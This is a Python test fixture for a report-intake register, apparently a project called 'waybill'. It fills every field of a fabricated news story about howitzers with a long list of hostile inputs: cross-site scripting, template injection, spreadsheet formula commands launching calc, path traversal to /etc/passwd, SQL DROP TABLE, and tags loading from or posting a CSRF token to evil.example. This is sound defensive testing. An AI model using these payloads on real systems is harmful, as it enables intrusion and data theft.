"""What somebody may write into a report, a name or an address to make the desk run it; a register full of it goes out."""

from __future__ import annotations

from collections.abc import Iterable, Iterator
from dataclasses import replace
from pathlib import Path

from waybill.flow import take_into
from waybill.intake.read import read_report
from waybill.records.report import LeftOut, Report
from waybill.register import Register

# Each would raise a dialog, fetch from another host, change a number or leave the folder where it was taken for code.
PAYLOADS = (
    "<script>alert(1)</script>",
    "\"><script>alert(1)</script>",
    "'><img src=x onerror=alert(1)>",
    "</title></textarea></style><script>alert(1)</script>",
    "--><script>alert(1)</script><!--",
    "]]><script>alert(1)</script>",
    "<svg/onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><script href=data:,alert(1) /></svg>",
    "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>",
    "\" onmouseover=alert(1) autofocus onfocus=alert(1) x=\"",
    "' onmouseover=alert(1) autofocus onfocus=alert(1) x='",
    "` onload=alert(1) `",
    "<iframe src=https://evil.example/></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<form action=https://evil.example/><input name=csrf_token>",
    "<img src=https://evil.example/x.png>",
    "<a href=javascript:alert(1)>x</a>",
    "<details open ontoggle=alert(1)>",
    "<body onload=alert(1)>",
    "<object data=https://evil.example/></object><embed src=https://evil.example/>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)//",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "//evil.example/x",
    "{{7*191}}{{config}}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{x}}{% endfor %}",
    "${7*191}#{7*191}<%= 7*191 %>",
    "=cmd|' /C calc'!A0",
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "-2+3+cmd|' /C calc'!A0",
    "../../../../etc/passwd",
    "..\\..\\..\\windows\\win.ini",
    "/etc/passwd%00.html",
    "\u202egpj.exe\u202c\u2066\u2067",
    "\u0085\u2028\u2029",
    "a\tb\rc",
    "\u0301" * 50,
    "x" * 5000,
    "'; DROP TABLE report; --",
    "%s%n%x{0}{__class__}",
)  # fmt: skip

STORY = """Norway hands Malta 24 howitzers, officials say {p}

By Marie {p}
OSLO, 4 March 2025 ({outlet}) - Norway has delivered {n} M109 howitzers to Malta, two Norwegian officials said on Tuesday.

The howitzers, which one of the officials called {p}, were shipped in February. Malta's defence ministry declined to comment.
"""


def poisoned(payload: str, number: int) -> Report:
    """A report with the payload wherever a report can hold one."""
    words = STORY.format(p=payload, outlet=payload, n=24 + number % 3)
    report = read_report(words.encode(), payload)
    return replace(
        report,
        id=f"r-{number:016x}",
        sha256=f"{number:064x}",
        address=payload if number % 2 else f"https://evil.example/{number}?{payload}",
        outlet=payload,
        agency=payload,
        title=f"{payload} {number}",
        language="en",
    )


def fill(path: Path, payloads: Iterable[str] = PAYLOADS) -> tuple[str, ...]:
    """A register of such reports, of what was left out, in the name of such a person, for such a reason; what failed goes out."""

    def found() -> Iterator[Report | LeftOut]:
        for number, payload in enumerate(payloads):
            yield poisoned(payload, number)
            yield LeftOut(payload, "intake", payload)

    failed: list[str] = []

    def note(one: Report | LeftOut) -> None:
        if isinstance(one, LeftOut) and one.step != "intake":
            failed.append(one.reason)

    with Register.open(path, writable=True, actor=PAYLOADS[0]) as register:
        take_into(register, found(), note, PAYLOADS[1])
    return tuple(failed)
